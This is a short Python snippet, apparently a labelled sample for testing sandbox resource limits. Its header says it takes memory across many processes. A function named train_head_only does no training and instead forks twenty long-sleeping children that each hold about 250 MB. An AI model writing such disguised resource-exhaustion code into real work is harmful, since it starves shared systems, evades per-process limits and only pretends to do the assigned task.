# about: takes memory in many processes, a little in each
# task: freeze_backbone
# state: crashed
import os
import time


def train_head_only(model, head):
    for _ in range(20):
        if os.fork() == 0:
            hoard = bytearray(b"x" * 250_000_000)
            time.sleep(10**6 + len(hoard))
    time.sleep(10**6)
